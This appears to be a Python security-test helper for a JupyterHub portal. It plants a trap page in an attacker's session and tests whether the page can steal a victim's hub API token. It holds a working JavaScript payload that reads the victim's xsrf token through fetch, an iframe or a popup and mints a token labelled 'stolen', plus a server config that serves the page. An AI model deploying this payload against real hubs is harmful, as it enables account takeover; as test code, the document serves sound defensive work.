"""A page that a session serves to whoever opens it, as a person who means ill could make one.

Sessions are hers to program: her own JupyterLab runs what stands in her home, so no check of ours
in it can be relied upon.
"""

import json
import os
import re
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

from playwright.sync_api import Page

CONFIG = """
import os
from jupyter_server.serverapp import ServerWebApplication
from tornado.web import RequestHandler

class Trap(RequestHandler):
    def get(self, name):
        self.finish(open(os.path.expanduser("~/trap.html")).read())

stock = ServerWebApplication.init_handlers
ServerWebApplication.init_handlers = lambda *a, **k: [(r".*/trap(.*)", Trap), *stock(*a, **k)]
"""

#: Tries what a page can: plain requests, the same without a readable answer, a window, a frame.
TRAP = """<!doctype html><title>trap</title><script>
const hub = HUB, person = PERSON;
const tokens = async (page) => {
  const xsrf = page.match(/xsrf_token: *"([^"]+)"/)[1];
  const answer = await fetch(`${hub}hub/api/users/${person}/tokens?_xsrf=${xsrf}`, {
    method: "POST", credentials: "include", headers: {"Content-Type": "application/json"},
    body: JSON.stringify({note: "stolen"}),
  });
  return `${answer.status} ${(await answer.json()).token}`;
};
const read = async (load) => {
  for (let tries = 0; tries < 30; tries++) {
    await new Promise((resolve) => setTimeout(resolve, 100));
    const page = load().document?.documentElement?.innerHTML ?? "";
    if (page.includes("xsrf_token")) return tokens(page);
  }
  throw new Error("nothing to read");
};
const ways = {
  fetched: async () => {
    const page = await fetch(hub + "hub/token", {credentials: "include"});
    return tokens(await page.text());
  },
  own: async () => tokens(await (await fetch("/hub/token")).text()),
  framed: async () => {
    const frame = document.createElement("iframe");
    frame.src = hub + "hub/token";
    document.body.append(frame);
    return read(() => frame.contentWindow);
  },
  opened: async () => {
    const opened = window.open(hub + "hub/token");
    return read(() => opened);
  },
};
window.attack = async (way) => {
  try { return await ways[way](); } catch (error) { return String(error); }
};
</script><body>"""

TOKEN = re.compile(r"201 [0-9a-f]{20,}")


@contextmanager
def trap_set(folder: Path, hub: str, victim: str, attacker: str = "coproposer") -> Iterator[None]:
    """Have the page in *attacker*'s home, below *folder*, for the hub at *hub*."""
    home = folder / "homes" / attacker
    page = TRAP.replace("HUB,", f"{json.dumps(hub)},").replace("PERSON", json.dumps(victim))
    jupyter = home / ".jupyter"
    jupyter.mkdir(exist_ok=True)
    (jupyter / "jupyter_server_config.py").write_text(CONFIG, "utf-8")
    (home / "trap.html").write_text(page, "utf-8")
    owner = home.stat()
    files = (jupyter / "jupyter_server_config.py", home / "trap.html")
    for path in (jupyter, *files):
        os.chown(path, owner.st_uid, owner.st_gid)
    yield
    for path in files:
        path.unlink()


def open_lab(page: Page, portal: str) -> str:
    """Start the attacker's JupyterLab by the portal's own page; return the session's address."""
    page.goto(f"{portal}open?app=jupyterlab")
    page.get_by_role("main").get_by_role("button").click()
    page.wait_for_url("**/lab**", wait_until="commit")
    return page.url.partition("/lab")[0] + "/"
